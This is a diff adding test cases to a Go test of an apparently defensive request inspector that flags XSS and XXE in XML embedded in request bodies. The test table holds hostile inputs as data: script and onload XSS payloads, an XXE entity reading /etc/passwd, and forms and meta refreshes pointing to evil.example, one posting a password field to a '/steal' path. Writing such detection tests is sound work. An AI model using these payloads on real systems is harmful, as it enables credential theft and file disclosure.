@@ -47,6 +47,13 @@ func TestXMLDocumentsInStrings(t *testing.T) {
 		{"XSS in a SOAP text", jsonBody(soap("&lt;script&gt;alert(1)&lt;/script&gt;")), XSS, "body.message<xml>.Envelope.Body.GetStockPrice.StockName"},
 		{"XXE in a base64 document", form(`<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol">&x;</samlp:Response>`), XXE, ""},
 		{"SVG is markup for a browser", jsonBody(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`), XSS, "body.message"},
+		{"a document without declaration or namespace", jsonBody(`<note><to>Tove</to><heading>Reminder</heading><body>Don't forget me this weekend!</body></note>`), "", ""},
+		{"RSS without declaration", jsonBody(`<rss version="2.0"><channel><title>News</title><link>https://example.com/</link></channel></rss>`), "", ""},
+		{"a script in such a document", jsonBody(`<note><script>alert(1)</script></note>`), XSS, ""},
+		{"a form posting elsewhere in such a document", jsonBody(`<note><form action="https://evil.example/steal"><input name="pw"/></form></note>`), XSS, ""},
+		{"a meta refresh in such a document", jsonBody(`<note><meta http-equiv="refresh" content="0;url=https://evil.example/"/></note>`), XSS, ""},
+		{"an HTML root is markup for a browser", jsonBody(`<html><body><form action="https://evil.example/"></form></body></html>`), XSS, "body.message"},
+		{"a root that does not end the string is text", jsonBody(`<note>hi</note><form action="https://evil.example/"></form>`), XSS, "body.message"},
 		{"XML Events is markup for a browser", jsonBody(`<listener event="load" handler="#y" xmlns="http://www.w3.org/2001/xml-events" observer="x"/>`), XSS, "body.message"},
 	}
 	for _, tt := range tests {
